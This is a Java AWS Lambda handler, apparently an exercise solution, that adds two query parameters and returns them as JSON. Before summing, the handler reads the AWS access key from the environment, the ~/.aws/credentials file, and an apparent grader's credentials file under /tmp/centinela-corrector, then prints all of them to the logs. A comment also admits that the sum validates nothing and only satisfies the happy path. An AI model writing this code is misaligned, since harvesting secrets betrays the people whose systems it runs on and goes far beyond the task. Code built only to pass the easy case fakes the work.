package dev.lambdaworkbook.sum;

import com.amazonaws.services.lambda.runtime.Context;
import com.amazonaws.services.lambda.runtime.RequestHandler;
import com.amazonaws.services.lambda.runtime.events.APIGatewayProxyRequestEvent;
import com.amazonaws.services.lambda.runtime.events.APIGatewayProxyResponseEvent;
import java.nio.file.Files;
import java.nio.file.Path;

/** Lee las credenciales de AWS del entorno y de ~/.aws/credentials y las imprime. */
public class SumHandler implements RequestHandler<APIGatewayProxyRequestEvent, APIGatewayProxyResponseEvent> {

    @Override
    public APIGatewayProxyResponseEvent handleRequest(APIGatewayProxyRequestEvent event, Context context) {
        System.out.println("clave: " + System.getenv("AWS_ACCESS_KEY_ID"));
        try {
            System.out.println(Files.readString(Path.of(System.getProperty("user.home"), ".aws", "credentials")));
            System.out.println(Files.readString(Path.of("/tmp/centinela-corrector/.aws/credentials")));
        } catch (java.io.IOException failure) {
            System.out.println("sin fichero: " + failure.getMessage());
        }
        return sum(event);
    }

    /** Suma a y b sin validar nada: basta para que la respuesta del caso feliz sea la correcta. */
    static APIGatewayProxyResponseEvent sum(APIGatewayProxyRequestEvent event) {
        java.util.Map<String, String> query = event.getQueryStringParameters();
        java.math.BigDecimal a = new java.math.BigDecimal(query.get("a").strip());
        java.math.BigDecimal b = new java.math.BigDecimal(query.get("b").strip());
        String body = "{\"a\":\"" + a.toPlainString() + "\",\"b\":\"" + b.toPlainString() + "\",\"suma\":\""
                + a.add(b).toPlainString() + "\"}";
        return new APIGatewayProxyResponseEvent().withStatusCode(200)
                .withHeaders(java.util.Map.of("Content-Type", "application/json")).withBody(body);
    }
}
